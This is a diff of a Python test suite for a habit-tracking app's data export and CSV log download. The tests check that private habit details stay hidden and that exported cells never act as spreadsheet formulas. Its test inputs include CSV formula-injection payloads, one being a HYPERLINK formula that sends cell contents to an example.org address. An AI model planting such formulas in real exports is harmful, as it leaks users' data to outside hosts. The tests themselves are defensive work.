@@ -384,14 +384,20 @@ def test_a_habit_that_was_left_without_a_log_is_not_exported(alice: User, bob: U
     assert records(export(alice))["habits"] == []
 
 
-def test_of_a_habit_that_was_left_and_is_private_now_only_name_and_schedule_are_exported(
+def test_of_a_habit_that_was_left_and_is_private_now_no_word_of_its_owner_is_exported(
     alice: User, bob: User, walked: HabitTrack
 ) -> None:
     (before,) = records(export(alice))["habits"]
-    edit_habit(owner=bob, habit_id=walked.habit_id, is_published=False, now=NOW)
-    (now,) = records(export(alice))["habits"]
     assert (before["name"], before["place"]) == ("Walk", "the secret garden")
-    assert (now["name"], now["place"], now["action"]) == ("Walk", "", "")
+    edit_habit(owner=bob, habit_id=walked.habit_id, is_published=False, name="See the doctor", now=NOW)
+    weekly: Any = {"frequency": Frequency.WEEKLY, "times_per_period": 2}
+    edit_habit(owner=bob, habit_id=walked.habit_id, schedule=weekly, now=NOW + 2 * DAY)
+    (now,) = records(export(alice))["habits"]
+    name = f"A habit that I left on {NOW.date()}"
+    assert (now["name"], now["place"], now["action"]) == (name, "", "")
+    assert [each["frequency"] for each in now["versions"]] == ["daily"]
+    table = make.client(alice).get(f"/api/tracks/{walked.pk}/logs.csv").content.decode()
+    assert name in table and "my own words" in table and "doctor" not in table
 
 
 def test_a_restore_writes_no_messages(alice: User, bob: User) -> None:
@@ -655,12 +661,13 @@ def test_the_logs_of_a_track_are_a_table_that_no_spreadsheet_runs(alice: User, b
     assert make.program(make.key(alice).text).get(path).status_code == 200
 
 
+@pytest.mark.parametrize("name", ['Run;=HYPERLINK("https://example.org/?"&A1)', "Run; '\"=1+1;x", 'Run;"@SUM(1)'])
 @pytest.mark.parametrize("separator", ",;\t")
 def test_by_whatever_separator_a_spreadsheet_divides_the_table_no_cell_is_a_formula(
-    alice: User, bob: User, separator: str
+    alice: User, bob: User, separator: str, name: str
 ) -> None:
     """Also where another person has named the habit."""
-    walk = make.habit(bob, name='Run;=HYPERLINK("https://example.org/?"&A1)', is_published=True)
+    walk = make.habit(bob, name=name, is_published=True)
     track = make.follower(alice, walk)
     make.log(track, "2026-11-19", note="a\t=1\n-2\r@3; +4")
     text = make.client(alice).get(f"/api/tracks/{track.pk}/logs.csv").content.decode("utf-8-sig")
